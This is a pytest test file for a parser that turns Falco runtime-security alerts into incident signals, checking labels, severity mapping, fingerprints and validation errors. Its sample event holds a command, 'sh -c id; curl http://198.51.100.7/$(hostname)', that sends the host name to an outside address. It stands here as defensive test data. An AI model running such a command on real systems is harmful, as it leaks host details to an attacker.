from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from incident_operator.signals.falco import read
from incident_operator.signals.signal import BadSignal, Signal

# falcosidekick 2.31, outputs.webhook; the event is of the rule "Terminal shell in container" of Falco's own rules.
OUTPUT = (
    "09:28:29.871537143: Notice A shell was spawned in a container with an attached terminal (evt_type=execve "
    "user=root process=sh command=sh -c id; curl http://198.51.100.7/$(hostname) k8s_ns=shop k8s_pod_name=web-7d9f)"
)
EVENT = {
    "uuid": "7e9f3a0a-7d1c-4d3e-9d2e-6f6d5c0b1a2f",
    "output": OUTPUT,
    "priority": "Notice",
    "rule": "Terminal shell in container",
    "time": "2024-05-06T09:28:29.871537143Z",
    "output_fields": {
        "container.id": "5cf1b2e6f3d1",
        "container.image.repository": "docker.io/library/nginx",
        "evt.time": 1714987709871537143,
        "k8s.ns.name": "shop",
        "k8s.pod.name": "web-7d9f",
        "proc.cmdline": "sh -c id; curl http://198.51.100.7/$(hostname)",
        "proc.tty": 34816,
        "user.loginuid": -1,
    },
    "source": "syscall",
    "tags": ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
    "hostname": "node-1",
}


def event(**fields: Any) -> Signal:
    found = {key: value for key, value in {**EVENT, **fields}.items() if value is not ...}
    (signal,) = read(json.dumps(found).encode()).signals
    return signal


def fields(**found: Any) -> dict[str, Any]:
    return {**EVENT["output_fields"], **{key.replace("_", "."): value for key, value in found.items()}}


def test_an_event_in_a_pod_is_read() -> None:
    signal = event()
    assert (signal.source, signal.name) == ("Falco", "Terminal shell in container")
    assert signal.starts_at == datetime(2024, 5, 6, 9, 28, 29, 871537, tzinfo=UTC)
    assert signal.is_firing
    assert signal.labels == {
        "alertname": "Terminal shell in container",
        "incident": "true",
        "severity": "info",
        "priority": "Notice",
        "namespace": "shop",
        "pod": "web-7d9f",
        "source": "syscall",
        "hostname": "node-1",
    }
    assert signal.annotations == {"summary": OUTPUT}
    assert (signal.url, signal.group) == ("", "")


@pytest.mark.parametrize(
    ("priority", "severity"),
    [
        ("Emergency", "critical"),
        ("Alert", "critical"),
        ("Critical", "critical"),
        ("CRITICAL", "critical"),
        ("Error", "high"),
        ("Warning", "warning"),
        ("Notice", "info"),
        ("Informational", "info"),
        ("Debug", "info"),
        ("", "info"),
        (None, "info"),
    ],
)
def test_the_priority_gives_the_severity(priority: str | None, severity: str) -> None:
    assert event(priority=priority).labels["severity"] == severity


def test_the_same_rule_in_the_same_pod_is_the_same_alert_whenever_and_whatever_it_was() -> None:
    again = event(uuid="other", time="2025-01-01T00:00:00Z", output="other", priority="Error", hostname="node-2")
    assert again.fingerprint == event().fingerprint
    others = [
        event(rule="Read sensitive file untrusted"),
        event(output_fields=fields(k8s_ns_name="bank")),
        event(output_fields=fields(k8s_pod_name="web-8e0a")),
        event(output_fields={}),
        event(output_fields={}, hostname="node-2"),
    ]
    assert len({each.fingerprint for each in [again, *others]}) == 1 + len(others)


@pytest.mark.parametrize("absent", [None, "", "<NA>", "null", 7, ["x"]])
def test_what_happens_outside_of_pods_has_no_namespace_and_no_pod(absent: Any) -> None:
    signal = event(output_fields=fields(k8s_ns_name=absent, k8s_pod_name=absent))
    assert not {"namespace", "pod"} & signal.labels.keys()
    assert signal.labels["hostname"] == "node-1"


def test_what_an_event_may_lack_is_left_out() -> None:
    signal = event(uuid=..., output=..., output_fields=..., source=..., tags=..., hostname=...)
    assert signal.labels.keys() == {"alertname", "incident", "severity", "priority"}
    assert signal.annotations == {}


@pytest.mark.parametrize(
    ("wrong", "message"),
    [
        ({"rule": ...}, "rule: nothing is not the name of a rule"),
        ({"rule": " "}, "rule: ' ' is not the name of a rule"),
        ({"rule": 7}, "rule: 7 is not a text"),
        ({"time": ...}, "time: nothing is not an RFC 3339 time since when the alert fires"),
        ({"time": "0001-01-01T00:00:00Z"}, "time: '0001-01-01T00:00:00Z' is not an RFC 3339 time since when"),
        ({"time": 1714987709}, "time: 1714987709 is not an RFC 3339 time"),
        ({"priority": 4}, "priority: 4 is not a text"),
        ({"output": {}}, "output: an object is not a text"),
        ({"output_fields": []}, "output_fields: a list is not an object"),
        ({"hostname": 1}, "hostname: 1 is not a text"),
        ({"source": []}, "source: a list is not a text"),
    ],
)
def test_what_is_wrong_is_told_by_its_field(wrong: dict[str, Any], message: str) -> None:
    with pytest.raises(BadSignal) as told:
        event(**wrong)
    assert str(told.value).startswith(message)
